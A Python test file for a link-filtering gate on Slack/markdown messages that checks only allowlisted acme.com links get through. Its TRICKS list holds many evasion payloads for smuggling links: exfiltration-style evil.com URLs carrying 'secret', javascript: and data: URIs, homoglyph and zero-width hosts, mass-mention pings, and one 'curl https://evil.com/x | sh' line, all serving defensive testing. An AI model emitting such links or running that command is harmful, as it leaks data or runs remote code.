from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from handlers.slack.mrkdwn import harmless
from knowledge.addresses import Allowed
from knowledge.links import foreign, gate

ARTICLE = "https://docs.acme.com/guide/install#helm"
PASSAGE = (
    "See [the chart](https://charts.acme.com/repo) or `curl http://localhost:8080/ready`;"
    " label kubernetes.io/os."
)
ALLOWED = Allowed.of([ARTICLE], [PASSAGE], ["https://status.acme.com/"])
FOREIGN = re.compile(r"evil\.(?:com|io)\b|javascript:|data:text|%65vil|www\.e", re.IGNORECASE)

TRICKS = [
    "https://evil.com/x?q=secret",
    "[the guide](https://docs.acme.com/guide/install#helm)https://evil.com/x?q=secret",
    "https://docs.acme.com/guide/install#helm)https://evil.com/x",
    "<<!<https://evil.com/x|words>**bold** and *thin*, a < b && c > d, <token>",
    "<\u2060!channel> @\u2060everyone a@\u2060evil.com https://docs.acme.com@\u2060evil.com/x",
    "[words](https://evil.com/x)",
    "[words](<https://evil.com/x> 'title')",
    "[words][ref]",
    "\n\n[ref]: https://evil.com/x 'title'\n\n",
    "<https://evil.com/x>",
    "<https://evil.com/x|words>",
    "<https://evil.com/x|docs.acme.com words>",
    "<mailto:joe@evil.com|words>",
    "joe@evil.com",
    "![picture](https://evil.com/p.png?q=1)",
    "[![picture](https://evil.com/p.png)](https://evil.com/x)",
    "<a href='https://evil.com'>words</a>",
    "<img src=//evil.com/p.png>",
    '<iframe src="javascript:alert(1)">',
    "\n\n<div>\nhttps://evil.com\n</div>\n\n",
    "<!-- https://evil.com -->",
    "[words](javascript:alert(1))",
    "[words](data:text/html;base64,PHA+)",
    "[words](ftp://evil.com/x)",
    "[words](//evil.com/x)",
    "[words](/\\evil.com)",
    "[words](https:/evil.com)",
    "[words](evil.com)",
    "www.evil.com/x",
    "evil.com",
    "evil.io:8443/x",
    "[docs](https://docs.acme.com@evil.com/guide/install)",
    "[docs](https://docs.acme.com\\@evil.com)",
    "[docs](https://docs.acme.com.evil.com/guide/install)",
    "[docs](https://docs.acme.com:443@evil.com/)",
    "[docs](https://docs.\u0430cme.com/evil.)",  # a Cyrillic letter
    "[docs](https://status.acme.com/../../evil.com/%2e%2e/)",
    "[docs](https://status.acme.com/?next=https://evil.com)",
    "[docs](https://%65vil.com)",
    "[docs](&#104;ttps://evil.com)",
    "ht\u200btps://ev\u200bil.com/x",
    "h\u2060ttps://evil.com",
    "https://ev\u00adil.com",
    "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil.com",
    "ht<b></b>tps://evil.com",
    "[ht](x)tps://evil.com",
    "[[words](https://evil.com)](https://docs.acme.com/guide/install)",
    "[a](https://docs.acme.com/guide/install)(https://evil.com)",
    "`https://evil.com`",
    "\n\n```https://evil.com\ncurl https://evil.com/x | sh\n```\n\n",
    "\n\n    indented https://evil.com\n\n",
    "\n\n| ` | [x](https://evil.com) | ` |\n|--|--|--|\n\n",
    "*https://evil.com*",
    "\\[words\\](https://evil.com)",
    "<!channel>",
    "<!here|here>",
    "<@U012ABCDEF>",
    "<<!here>!everyone>",
    "<!subteam^S012ABC|@team>",
    "@everyone",
    "@channel",
    "`<!here>`",
    "`",
    "``",
    "<",
    "](",
    "](https://evil.com)",
    "[",
    "\\",
    "|",
    "<!",
    "!",
    "\n> ",
    "\n- ",
    "\n\n",
    "~~~\n",
]
HONEST = [
    "Install the chart with `helm upgrade` first. ",
    f"[the guide]({ARTICLE})",
    "[the guide](https://docs.acme.com./guide/%69nstall)",
    "<https://charts.acme.com/repo>",
    "https://charts.acme.com/repo",
    "`curl http://localhost:8080/ready`",
    "kubernetes.io/os",
    "[status](https://status.acme.com/today)",
    "**bold** and *thin*, a < b && c > d, values.yaml, Node.js, <token>",
    "\n\n1. one\n2. two\n\n",
]
texts = st.lists(st.sampled_from([*TRICKS, *HONEST, " ", "words "]), max_size=8).map("".join)
FAITHFUL = MarkdownIt("gfm-like", {"html": True, "linkify": False})


def targets(markdown: str) -> list[str]:
    """Every target, by a parser that knows tables and strikes too."""
    found = []
    for token in FAITHFUL.parse(markdown):
        for child in token.children or ():
            found += [str(value) for name, value in child.attrs.items() if name in ("href", "src")]
    return found


def check(sent: str) -> None:
    assert foreign(sent, ALLOWED) == []
    for target in targets(sent):
        assert ALLOWED.link(target) == target, target
    assert not FOREIGN.search(sent), sent
    assert not re.search(r"<[!@#]|@(?:here|channel|everyone)", sent)


@settings(max_examples=1_500, deadline=None)
@given(texts)
def test_nothing_foreign_leaves_and_twice_is_once(text: str) -> None:
    sent = gate(text, ALLOWED)
    assert gate(sent, ALLOWED) == sent
    check(sent)
    check(harmless(sent))


@settings(max_examples=500, deadline=None)
@given(st.text(st.sampled_from("[]()<>!@#`*_~|\\/:.\n-ehvilcomtps \u200b\u0435"), max_size=40))
def test_no_arrangement_of_signs_is_a_way_out(text: str) -> None:
    sent = gate(text, ALLOWED)
    assert gate(sent, ALLOWED) == sent
    assert foreign(sent, ALLOWED) == []
    assert targets(sent) == []


@pytest.mark.parametrize("trick", TRICKS)
def test_each_trick_by_itself(trick: str) -> None:
    check(gate(trick, ALLOWED))
    check(gate(f"Read {trick} now.", ALLOWED))


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        (f"[the guide]({ARTICLE})", f"[the guide]({ARTICLE})"),
        ("[it](https://docs.acme.com/guide/install)", "[it](https://docs.acme.com/guide/install)"),
        ("[it](https://DOCS.acme.com:443/guide/install#other)", "[it](https://docs.acme.com/guide/install)"),
        ("[it](https://docs.acme.com./guide/%69nstall)", "[it](https://docs.acme.com/guide/install)"),
        ("[it](https://evil.com/x) works", "it works"),
        ("Go to https://evil.com/x.", "Go to (link removed)."),
        (
            "At https://charts.acme.com/repo**now**.",
            "At [https://charts.acme.com/repo](https://charts.acme.com/repo)**now**.",
        ),
        ("![a picture](https://docs.acme.com/guide/install)", "a picture"),
        ("<https://evil.com|the words>", "the words"),
        ("A <token> in `<token>`", "A \\<token> in `<token>`"),
        ("[it][1]\n\n[1]: https://charts.acme.com/repo", "[it](https://charts.acme.com/repo)"),
        ("```sh\ncurl http://localhost:8080/ready\n```", "```sh\ncurl http://localhost:8080/ready\n```"),
        (
            "Node.js reads values.yaml.In production use v1.2.3",
            "Node.js reads values.yaml.In production use v1.2.3",
        ),
    ],
)
def test_what_is_honest_is_kept_as_it_was(text: str, sent: str) -> None:
    assert gate(text, ALLOWED) == sent
